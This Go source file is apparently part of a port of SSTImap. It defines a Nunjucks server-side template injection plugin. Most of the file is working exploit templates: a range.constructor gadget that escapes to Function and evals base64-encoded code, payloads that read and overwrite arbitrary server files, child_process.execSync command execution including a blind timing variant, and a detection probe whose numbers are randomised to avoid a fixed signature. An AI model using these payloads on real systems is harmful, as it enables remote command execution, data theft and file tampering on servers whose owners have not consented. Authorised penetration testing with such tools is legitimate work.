// Package javascript registers the Nunjucks engine plugin, a faithful port
// of original_source/plugins/javascript/nunjucks.py: the range.constructor
// escape-to-Function gadget for evaluate/execute/write, Buffer(...,'base64')
// for safe code transport, and a Nunjucks `{{ }}` arithmetic probe for
// render detection.
package javascript

import (
	"fmt"
	"math/rand"

	baselang "github.com/sstimap/sstimap-go/pkg/plugins/languages/javascript"
	"github.com/sstimap/sstimap-go/pkg/registry"
)

// NewNunjucks builds the Nunjucks plugin descriptor. Priority 5 and the
// plugin_info/context list below mirror the Python class body; header_type
// is "add" (inherited, in the original, from the javascript base class —
// its header/trailer templates use '+' and would never match under the
// core's own "cat" default).
func NewNunjucks() *registry.Plugin {
	r0, r1, r2 := randInt(), randInt(), randInt()
	testRender := fmt.Sprintf("{{(%d,%d*%d)|dump}}", r0, r1, r2)
	testRenderExpected := fmt.Sprintf("%d", r1*r2)

	return &registry.Plugin{
		Language:   "javascript",
		Name:       "nunjucks",
		Priority:   5,
		HeaderType: "add",
		Info: registry.PluginInfo{
			Description: "Nunjucks template engine",
			Authors: []string{
				"Emilio @epinna https://github.com/epinna",
				"Jeremy Bae @opt9 https://github.com/opt9",
				"Vladislav Korchagin @vladko312 https://github.com/vladko312",
			},
			Engine: []string{
				"Homepage: https://mozilla.github.io/nunjucks/",
				"Github: https://github.com/mozilla/nunjucks",
			},
		},
		Contexts: []registry.ContextDescriptor{
			{Level: 0},
			{Level: 1, Prefix: "{closure}}}}}", Suffix: "{{1", Closures: baselang.CtxClosures},
			{Level: 1, Prefix: "{closure} %}}", Suffix: "", Closures: baselang.CtxClosures},
			{Level: 5, Prefix: "{closure} %}}{{% endfor %}}{{% for a in [1] %}}", Suffix: "", Closures: baselang.CtxClosures},
			{Level: 5, Prefix: "{closure} = 1 %}}", Suffix: "", Closures: baselang.CtxClosures},
			{Level: 5, Prefix: "#}}", Suffix: "{#"},
		},
		Actions: registry.ActionTable{
			"render": registry.Action{
				Templates: map[string]string{
					"render":               "{code}",
					"header":               "{{{{{header[0]}+{header[1]}}}}}",
					"trailer":              "{{{{{trailer[0]}+{trailer[1]}}}}}",
					"test_render":          testRender,
					"test_render_expected": testRenderExpected,
				},
			},
			"write": registry.Action{
				Call: "inject",
				Templates: map[string]string{
					"write":    `{{{{range.constructor("global.process.mainModule.require('fs').appendFileSync('{path}', Buffer('{chunk_b64p}', 'base64'), 'binary')")()}}}}`,
					"truncate": `{{{{range.constructor("global.process.mainModule.require('fs').writeFileSync('{path}', '')")()}}}}`,
				},
			},
			"read": registry.Action{
				Call: "evaluate",
				Templates: map[string]string{
					"read": `global.process.mainModule.require('fs').readFileSync('{path}').toString('base64')`,
				},
			},
			"md5": registry.Action{
				Call: "evaluate",
				Templates: map[string]string{
					"md5": `global.process.mainModule.require('crypto').createHash('md5').update(global.process.mainModule.require('fs').readFileSync('{path}')).digest("hex")`,
				},
			},
			"evaluate": registry.Action{
				Call: "render",
				Templates: map[string]string{
					"evaluate":         `{{{{range.constructor("return eval(Buffer('{code_b64p}','base64').toString())")()}}}}`,
					"test_os":          `global.process.mainModule.require('os').platform()`,
					"test_os_expected": `^[\w-]+$`,
				},
			},
			"execute": registry.Action{
				Call: "evaluate",
				Templates: map[string]string{
					"execute": `global.process.mainModule.require('child_process').execSync(Buffer('{code_b64p}', 'base64').toString())`,
				},
			},
			"execute_blind": registry.Action{
				Call: "inject",
				Templates: map[string]string{
					"execute_blind": `{{{{range.constructor("global.process.mainModule.require('child_process').execSync(Buffer('{code_b64p}', 'base64').toString() + ' && sleep {delay}')")()}}}}`,
				},
			},
		},
	}
}

// randInt mirrors the cosmetic role of utils.rand.randints in the original:
// varying the literal numbers baked into test_render/test_render_expected
// at plugin-load time so repeated runs don't send an identical signature.
func randInt() int {
	return rand.Intn(9000) + 1000 //nolint:gosec
}
